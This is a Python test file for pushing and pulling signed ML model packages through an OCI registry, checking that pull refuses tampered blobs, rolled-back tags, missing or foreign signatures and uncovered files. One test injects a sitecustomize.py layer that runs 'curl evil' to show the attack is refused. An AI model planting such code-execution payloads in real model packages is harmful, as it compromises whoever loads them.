"""Push and pull through a real registry (Distribution 2.8, TLS + htpasswd) and an OCI layout, and what pull refuses."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from model_factory.distribution import modelpack as mp
from model_factory.distribution.oci_layout import OCI_INDEX
from model_factory.distribution.push_pull import pull, push, referrers
from model_factory.distribution.registry import RegistryTarget, parse_registry_ref
from model_factory.errors import FactoryError


def snapshot(folder: Path) -> dict[str, str] | None:
    """Every file under ``folder`` with its sha256 (None when the folder does not exist)."""
    if not folder.exists():
        return None
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def same_files(a: Path, b: Path) -> None:
    assert snapshot(a) == snapshot(b)


def target(registry, name, options):
    return RegistryTarget(parse_registry_ref(f"oci://{registry.host}/{name}:x"), options)


def test_push_pull_round_trip_is_byte_identical(registry, fake_repo, oci_keys, reg_options, tmp_path):
    ref = f"oci://{registry.host}/models/enc:2"
    pushed = push(fake_repo, "enc", ref, options=reg_options)
    assert set(pushed.referrers) == {"signature", "bom"}
    # The manifest is a ModelPack artifact, every layer annotated with its path, digests = file sha256.
    t = target(registry, "models/enc", reg_options)
    manifest = json.loads(t.get_manifest("2")[0])
    assert manifest["artifactType"] == mp.MODEL_ARTIFACT
    assert manifest["config"]["mediaType"] == mp.MODEL_CONFIG
    paths = {layer["annotations"][mp.FILEPATH]: layer for layer in manifest["layers"]}
    assert paths["2/model.onnx"]["mediaType"] == mp.WEIGHT and paths["2/mf_backend/model.py"]["mediaType"] == mp.CODE
    assert paths["config.pbtxt"]["mediaType"] == mp.WEIGHT_CONFIG and "1/model.onnx" not in paths
    onnx = fake_repo / "enc" / "2" / "model.onnx"
    assert paths["2/model.onnx"]["digest"] == "sha256:" + hashlib.sha256(onnx.read_bytes()).hexdigest()
    # Distribution 2.8 has no referrers API: they are found through the sha256-<hex> tag.
    assert t.referrers_api(pushed.digest) is None
    assert {(m["annotations"][mp.ROLE]) for m in referrers(t, pushed.digest)} == {"signature", "bom"}

    result = pull(ref, tmp_path / "dest", oci_keys["policy"], options=reg_options)
    assert result.signer == "key:release" and result.version == 2 and result.referrers == ("bom", "signature")
    pulled = tmp_path / "dest" / "enc"
    expected = {k: v for k, v in snapshot(fake_repo / "enc").items() if not k.startswith("1")}
    assert snapshot(pulled) == expected
    assert not list(tmp_path.glob(".dest.*"))  # no staging or blob cache left
    # Pushing the same version again gives the same manifest digest.
    assert push(fake_repo, "enc", ref, options=reg_options).digest == pushed.digest


def test_oci_layout_and_skopeo_copy_into_the_registry(registry, fake_repo, oci_keys, reg_options, tmp_path):
    from registry_helpers import PASSWORD, USER

    layout = tmp_path / "usb" / "models"
    pushed = push(fake_repo, "enc", f"oci-layout:{layout}:enc-1", version=1)
    assert (layout / "oci-layout").is_file() and (layout / "index.json").is_file()
    pull(f"oci-layout:{layout}:enc-1", tmp_path / "from-layout", oci_keys["policy"])
    expected = {k: v for k, v in snapshot(fake_repo / "enc").items() if not k.startswith("2")}
    assert snapshot(tmp_path / "from-layout" / "enc") == expected
    if shutil.which("skopeo") is None:
        pytest.skip("skopeo not installed (scripts/setup.sh installs it)")
    certs = tmp_path / "certs"
    certs.mkdir()
    shutil.copyfile(registry.ca, certs / "ca.crt")
    fallback = pushed.digest.replace(":", "-")
    for tag, extra in (("enc-1", ["--preserve-digests"]), (fallback, ["--all"])):  # the model, then its referrers
        subprocess.run(["skopeo", "copy", "--quiet", *extra, "--dest-cert-dir", str(certs), "--dest-creds",
                        f"{USER}:{PASSWORD}", f"oci:{layout}:{tag}", f"docker://{registry.host}/air/enc:{tag}"],
                       check=True, capture_output=True, timeout=120)
    result = pull(f"oci://{registry.host}/air/enc:enc-1", tmp_path / "from-skopeo", oci_keys["policy"],
                  options=reg_options)
    assert result.digest == pushed.digest
    assert snapshot(tmp_path / "from-skopeo" / "enc") == expected


@pytest.fixture
def pulled_v2(registry, fake_repo, oci_keys, reg_options, tmp_path):
    """DEST already holds version 2 from a good pull; returns (dest, its snapshot)."""
    dest = tmp_path / "dest"
    push(fake_repo, "enc", f"oci://{registry.host}/good/enc:2", version=2, options=reg_options)
    pull(f"oci://{registry.host}/good/enc:2", dest, oci_keys["policy"], options=reg_options)
    return dest, snapshot(dest)


def refused(ref, dest, oci_keys, reg_options, match):
    with pytest.raises(FactoryError, match=match):
        pull(ref, dest, oci_keys["policy"], options=reg_options)


def test_swapped_blob_is_refused_and_dest_untouched(registry, fake_repo, oci_keys, reg_options, pulled_v2):
    dest, before = pulled_v2
    pushed = push(fake_repo, "enc", f"oci://{registry.host}/t1/enc:2", version=2, options=reg_options)
    t = target(registry, "t1/enc", reg_options)
    layer = next(x for x in json.loads(t.get_manifest(pushed.digest)[0])["layers"]
                 if x["annotations"][mp.FILEPATH] == "2/model.onnx")
    blob = registry.blob_file(layer["digest"])
    original = blob.read_bytes()
    blob.write_bytes(bytes(reversed(original)))  # same size, other bytes
    try:
        refused(f"oci://{registry.host}/t1/enc:2", dest, oci_keys, reg_options, "does not match its digest")
    finally:
        blob.write_bytes(original)  # blobs are shared by every repository of the session's registry
    assert snapshot(dest) == before


def test_tag_repointed_to_an_older_signed_version_is_refused(registry, fake_repo, oci_keys, reg_options, pulled_v2):
    dest, before = pulled_v2
    base = f"oci://{registry.host}/t2/enc"
    old = push(fake_repo, "enc", f"{base}:1", version=1, options=reg_options)
    push(fake_repo, "enc", f"{base}:2", version=2, options=reg_options)
    push(fake_repo, "enc", f"{base}:stable", version=2, options=reg_options)
    t = target(registry, "t2/enc", reg_options)
    old_manifest = t.get_manifest(old.digest)[0]
    for tag in ("2", "stable"):  # someone with push rights re-points the tags to the older, validly signed v1
        t.put_manifest(old_manifest, mp.OCI_MANIFEST, tag)
    refused(f"{base}:2", dest, oci_keys, reg_options, "re-pointed")
    refused(f"{base}:stable", dest, oci_keys, reg_options, "refusing a rollback")
    assert snapshot(dest) == before


def test_missing_signature_referrer_is_refused(registry, fake_repo, oci_keys, reg_options, pulled_v2):
    dest, before = pulled_v2
    pushed = push(fake_repo, "enc", f"oci://{registry.host}/t3/enc:2", version=2, options=reg_options)
    t = target(registry, "t3/enc", reg_options)
    tag = pushed.digest.replace(":", "-")
    index = json.loads(t.get_manifest(tag)[0])
    index["manifests"] = [m for m in index["manifests"] if m["annotations"][mp.ROLE] != "signature"]
    t.put_manifest(json.dumps(index).encode(), OCI_INDEX, tag)
    refused(f"oci://{registry.host}/t3/enc:2", dest, oci_keys, reg_options, "no signature attached")
    assert snapshot(dest) == before


def test_foreign_signer_is_refused(registry, fake_repo, oci_keys, reg_options, pulled_v2, tmp_path):
    from model_factory.signing import SignerConfig, sign_model_version

    dest, before = pulled_v2
    other = tmp_path / "other-repo"
    shutil.copytree(fake_repo, other)
    sign_model_version(other / "enc", 2, SignerConfig(oci_keys["foreign"][0]))
    push(other, "enc", f"oci://{registry.host}/t4/enc:2", version=2, options=reg_options)
    refused(f"oci://{registry.host}/t4/enc:2", dest, oci_keys, reg_options, "not trusted")
    assert snapshot(dest) == before


def test_manifest_with_files_the_signature_does_not_cover_is_refused(registry, fake_repo, oci_keys, reg_options,
                                                                     pulled_v2):
    from model_factory.distribution.oci_layout import Blob, canonical_json, descriptor

    dest, before = pulled_v2
    pushed = push(fake_repo, "enc", f"oci://{registry.host}/t5/enc:2", version=2, options=reg_options)
    t = target(registry, "t5/enc", reg_options)
    manifest = json.loads(t.get_manifest(pushed.digest)[0])
    evil = Blob.of_bytes(b"import os; os.system('curl evil')\n")
    t.put_blob(evil)
    manifest["layers"].append(descriptor(mp.CODE, evil.digest, evil.size, {mp.FILEPATH: "2/sitecustomize.py"}))
    data = canonical_json(manifest)
    t.put_manifest(data, mp.OCI_MANIFEST, "2")
    # The attacker also copies the signature referrer onto the new manifest: still refused.
    from model_factory.distribution.oci_layout import sha256_bytes
    from model_factory.distribution.push_pull import attach

    sig = fake_repo / "enc" / "2.sig"
    attach(t, descriptor(mp.OCI_MANIFEST, sha256_bytes(data), len(data)), mp.SIGSTORE_BUNDLE, "signature",
           [(sig.name, mp.file_blob(sig), mp.SIGSTORE_BUNDLE)])
    refused(f"oci://{registry.host}/t5/enc:2", dest, oci_keys, reg_options, "does not cover: 2/sitecustomize.py")
    assert snapshot(dest) == before


def test_registry_errors_are_one_line_messages(registry, fake_repo, oci_keys, tmp_path):
    from model_factory.cli.main import main

    policy = str(oci_keys["policy"])
    common = ["--registry-config", str(registry.config), "--ca-file", str(registry.ca)]
    r = CliRunner().invoke(main, ["push", str(fake_repo), f"oci://{registry.host}/cli/enc:2", "--model", "enc",
                                  *common])
    assert r.exit_code == 0, r.output
    cases = [
        (f"oci://{registry.host}/cli/enc:9", common, "has no tag '9'. Fix: use one of its tags: 2"),
        (f"oci://{registry.host}/cli/nothere:2", common, "repository .* does not exist"),
        (f"oci://{registry.host}/cli/enc:2", ["--registry-config", str(registry.wrong_config), "--ca-file",
                                              str(registry.ca)], "refused the login"),
        (f"oci://{registry.host}/cli/enc:2", ["--registry-config", str(registry.config)], "--ca-file"),
    ]
    for ref, opts, message in cases:
        r = CliRunner().invoke(main, ["pull", ref, str(tmp_path / "dest"), "--policy", policy, *opts])
        assert r.exit_code == 1 and "Traceback" not in r.output, r.output
        assert re.search(message, r.output), r.output
    assert not (tmp_path / "dest").exists()


def test_modelcar_image_holds_the_model_under_models(registry, fake_repo, oci_keys, reg_options, tmp_path):
    import tarfile

    from model_factory.signing import load_policy, verify_repository

    pushed = push(fake_repo, "enc", f"oci://{registry.host}/cars/enc:2", version=2, form="modelcar",
                  options=reg_options)
    t = target(registry, "cars/enc", reg_options)
    manifest = json.loads(t.get_manifest("2")[0])
    assert manifest["config"]["mediaType"] == mp.IMAGE_CONFIG and len(manifest["layers"]) == 1
    layer = manifest["layers"][0]
    t.fetch_blob(layer["digest"], layer["size"], tmp_path / "layer.tar")
    with tarfile.open(tmp_path / "layer.tar") as tar:
        tar.extractall(tmp_path / "root", filter="data")
    # What an image volume or a model car mounts at /models verifies as it is.
    results = verify_repository(tmp_path / "root" / "models", load_policy(oci_keys["policy"]))
    assert [(r.model, r.version, r.ok) for r in results] == [("enc", 2, True)]
    assert {m["annotations"][mp.ROLE] for m in referrers(t, pushed.digest)} == {"signature", "bom"}


def test_a_partial_download_resumes_with_a_range_request(registry, fake_repo, reg_options, tmp_path):
    pushed = push(fake_repo, "enc", f"oci://{registry.host}/resume/enc:2", version=2, options=reg_options)
    t = target(registry, "resume/enc", reg_options)
    layer = next(x for x in json.loads(t.get_manifest(pushed.digest)[0])["layers"]
                 if x["annotations"][mp.FILEPATH] == "2/model.onnx")
    data = (fake_repo / "enc" / "2" / "model.onnx").read_bytes()
    out = tmp_path / "blob"
    (tmp_path / "blob.part").write_bytes(data[:5000])  # what a killed pull left
    seen = []
    t.fetch_blob(layer["digest"], layer["size"], out, progress=lambda what, done, total: seen.append(done))
    assert out.read_bytes() == data and seen[0] > 5000 and not (tmp_path / "blob.part").exists()
    (tmp_path / "again.part").write_bytes(b"x" * 5000)  # a damaged partial file is caught by the digest
    with pytest.raises(FactoryError, match="does not match its digest"):
        t.fetch_blob(layer["digest"], layer["size"], tmp_path / "again")
    assert not (tmp_path / "again.part").exists() and not (tmp_path / "again").exists()


def test_token_auth_registry(token_registry, fake_repo, oci_keys, tmp_path):
    """Docker token auth: the Bearer challenge is answered with a token for the Docker config's credentials."""
    from model_factory.distribution.registry import RegistryOptions

    options = RegistryOptions(config=token_registry.config, ca_file=token_registry.ca)
    ref = f"oci://{token_registry.host}/tok/enc:2"
    push(fake_repo, "enc", ref, version=2, options=options)
    pull(ref, tmp_path / "dest", oci_keys["policy"], options=options)
    assert (tmp_path / "dest" / "enc" / "2.sig").is_file()
    with pytest.raises(FactoryError, match="refused the login"):
        pull(ref, tmp_path / "dest2", oci_keys["policy"],
             options=RegistryOptions(config=token_registry.wrong_config, ca_file=token_registry.ca))
    assert not (tmp_path / "dest2").exists()
